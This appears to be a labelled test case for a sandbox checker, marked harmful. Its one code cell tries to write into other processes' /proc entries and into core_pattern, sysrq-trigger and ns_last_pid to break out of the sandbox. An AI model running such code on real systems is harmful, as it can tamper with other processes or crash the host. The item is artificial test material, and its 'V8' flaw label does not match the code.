"""The sandbox is left through /proc: the root, folder and files of other processes."""

HARMLESS = False
FLAW, TRICK = "V8", "injection"
CELLS = {
    "count": """import pathlib
for process in pathlib.Path("/proc").glob("[0-9]*"):
    for name in ("root/tmp/mark", "cwd/mark", "mem", "oom_score_adj", "fd/1", "uid_map"):
        try:
            (process / name).write_text("0 0 1")
            print(process, name)
        except OSError as error:
            print(error.strerror)
for name in ("sysrq-trigger", "sys/kernel/core_pattern", "sys/kernel/ns_last_pid"):
    try:
        pathlib.Path("/proc", name).write_text("|/bin/true")
    except OSError as error:
        print(error.strerror)"""
}
